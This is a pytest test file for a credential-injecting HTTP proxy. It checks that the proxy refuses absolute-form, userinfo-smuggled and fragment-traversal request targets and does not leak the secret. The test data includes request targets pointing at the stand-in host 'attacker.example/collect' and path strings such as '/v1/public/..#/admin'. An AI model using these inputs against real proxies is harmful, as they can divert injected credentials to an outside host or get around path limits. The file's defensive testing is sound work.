"""Re-attack of issue 12 point 2 and principle 41 (review F1, F5): the request target itself.

Inside a service's tunnel the request target must be origin-form (``/path?query``; ``OPTIONS *``
aside). HTTP/2 puts it in ``:path``, where a client may write an absolute URL (curl's
``--request-target``): an HTTP/1 upstream then receives the absolute form, whose authority
overrides ``Host`` (RFC 9112 §3.2.2). A ``#`` is never part of a request target; servers and
WHATWG URL parsers cut the path there, so ``/v1/public/..#/admin`` is ``/v1/`` to them.
"""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from clavis_mcp.certs import LocalCA
from clavis_mcp.proxy import EmbeddedProxy
from clavis_mcp.vault import Vault, validate_secret
from tests.conftest import PROXY_TOKEN, PROXY_USER, make_service
from tests.proxy.conftest import A_HOST, SECRET_A, RawClient, Upstream

pytestmark = [pytest.mark.anyio, pytest.mark.e2e]


async def curl_target(proxy: EmbeddedProxy, home: Path, version: str, target: str) -> str:
    """curl as an HTTPS_PROXY agent with ``--request-target``: the HTTP status it got ("000" if none)."""
    process = await asyncio.create_subprocess_exec(
        "curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", version, "--max-time", "20",
        "--proxy", f"http://127.0.0.1:{proxy.port}", "--proxy-user", f"{PROXY_USER}:{PROXY_TOKEN}",
        "--cacert", str(LocalCA(home / "certs").cert_path), "--request-target", target, f"https://{A_HOST}/",
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip
    out, _ = await process.communicate()
    return out.decode()


ABSOLUTE_TARGETS = [
    ("other-host", "https://attacker.example/collect"),
    ("other-port", f"https://{A_HOST}:8443/collect"),
    ("userinfo", f"https://{A_HOST}@attacker.example/collect"),
    ("no-slash", "collect"),
    ("asterisk-with-get", "*"),
]


@pytest.mark.parametrize("version", ["--http2", "--http1.1"])
@pytest.mark.parametrize("target", [t for _, t in ABSOLUTE_TARGETS], ids=[i for i, _ in ABSOLUTE_TARGETS])
async def test_a_request_target_naming_another_authority_or_no_path_gets_no_credential(
    routed_proxy: EmbeddedProxy, home: Path, reflector: Upstream, version: str, target: str
) -> None:
    status = await curl_target(routed_proxy, home, version, target)
    assert status in ("400", "421"), status
    assert reflector.received == []


async def test_an_http2_path_naming_another_scheme_gets_no_credential(
    routed_proxy: EmbeddedProxy, home: Path, reflector: Upstream
) -> None:
    """(mitmproxy reads an HTTP/1 absolute URL itself and keeps the tunnel's scheme, host and port.)"""
    assert await curl_target(routed_proxy, home, "--http2", f"http://{A_HOST}/collect") in ("400", "421")
    assert reflector.received == []


@pytest.mark.parametrize("version", ["--http2", "--http1.1"])
async def test_an_absolute_request_target_naming_the_destination_is_sent_in_origin_form(
    routed_proxy: EmbeddedProxy, home: Path, reflector: Upstream, version: str
) -> None:
    status = await curl_target(routed_proxy, home, version, f"https://{A_HOST}/v1/ok?x=1")
    assert status == "200"
    assert [r.path for r in reflector.received] == ["/v1/ok?x=1"]
    assert reflector.credentials_seen() == [f"Bearer {SECRET_A}"]


@pytest.fixture
def limited(services: Vault) -> Vault:
    services.remove_service("alpha")
    services.add_service(make_service("alpha", A_HOST, path_prefixes=("/v1/public",)), validate_secret(SECRET_A))
    return services


FRAGMENTS = [
    ("dot-dot-fragment", b"/v1/public/..#/admin"),
    ("fragment-then-dot-dots", b"/v1/public/#/../../admin"),
    ("fragment-in-the-query", b"/v1/public/x?a=1#/../admin"),
]


@pytest.mark.parametrize("target", [t for _, t in FRAGMENTS], ids=[i for i, _ in FRAGMENTS])
async def test_a_fragment_in_the_request_target_is_refused(
    limited: Vault, routed_proxy: EmbeddedProxy, home: Path, reflector: Upstream, target: bytes
) -> None:
    raw = await RawClient.connect(routed_proxy)
    assert (await raw.tunnel(f"{A_HOST}:443", home, sni=A_HOST)).status == 200
    response = await raw.send(b"GET " + target + f" HTTP/1.1\r\nHost: {A_HOST}\r\n\r\n".encode())
    await raw.close()
    assert response.status == 400, response
    assert b"fragment" in response.body
    assert reflector.received == []


async def test_a_fragment_in_an_http2_path_is_refused(
    limited: Vault, routed_proxy: EmbeddedProxy, home: Path, reflector: Upstream
) -> None:
    assert await curl_target(routed_proxy, home, "--http2", "/v1/public/..#/admin") == "400"
    assert reflector.received == []
